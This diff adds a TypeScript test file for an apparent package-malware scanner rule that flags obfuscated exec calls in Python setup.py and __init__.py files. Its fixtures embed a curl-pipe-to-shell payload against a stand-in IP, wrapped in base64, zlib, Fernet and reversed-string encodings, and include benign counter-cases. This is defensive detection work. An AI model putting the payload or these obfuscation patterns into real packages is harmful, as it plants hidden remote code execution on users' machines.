@@ -1,0 +1,35 @@
+import { describe, it, expect } from 'vitest';
+import { deflateSync } from 'node:zlib';
+import { hits, maxSev } from './helpers.js';
+
+const b64 = (s: string) => Buffer.from(s).toString('base64');
+const PAYLOAD = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
+
+describe('encoded-exec', () => {
+  it('flags exec(base64.b64decode(literal)) in setup.py as critical', () => {
+    const src = `import base64\nexec(base64.b64decode('${b64(PAYLOAD)}'))\n`;
+    expect(maxSev(hits('encoded-exec', { 'setup.py': src }))).toBe('critical');
+  });
+  it('follows renamed imports and zlib layers', () => {
+    const z = deflateSync(Buffer.from(PAYLOAD)).toString('base64');
+    const src = `import base64 as q, zlib as w\n_ = eval\n_(compile(w.decompress(q.b64decode("${z}")), '<x>', 'exec'))\n`;
+    expect(maxSev(hits('encoded-exec', { 'pkg/__init__.py': src }))).toBe('critical');
+  });
+  it('flags exec of a Fernet-decrypted blob (decrypt inside exec)', () => {
+    const src = `from fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAAABmA1qGST25NId_y2UxL3bYhi0FsbUwS4NewkB6jjRyhyW1hbmLf'))\n`;
+    expect(hits('encoded-exec', { 'setup.py': src }).length).toBe(1);
+  });
+  it('flags a reversed string exec', () => {
+    const rev = [...PAYLOAD].reverse().join('').replace(/\n/g, '\\n').replace(/'/g, "\\'");
+    const src = `exec('${rev}'[::-1])\n`;
+    expect(maxSev(hits('encoded-exec', { 'setup.py': src }))).toBe('critical');
+  });
+  it('does not flag pickle.loads of decoded request data (bottle signed cookies)', () => {
+    const src = `import base64, pickle\ndef cookie_decode(data, key):\n    msg = base64.b64decode(data)\n    return pickle.loads(base64.b64decode(msg))\n`;
+    expect(hits('encoded-exec', { 'bottle.py': src })).toEqual([]);
+  });
+  it('does not flag decoding without exec, nor exec in a docstring or comment', () => {
+    const src = `"""Example: exec(base64.b64decode(x))"""\nimport base64\n# exec(base64.b64decode('${b64(PAYLOAD)}'))\nICON = base64.b64decode('${b64('just some png-ish bytes here, not code at all')}')\n`;
+    expect(hits('encoded-exec', { 'pkg/__init__.py': src })).toEqual([]);
+  });
+});
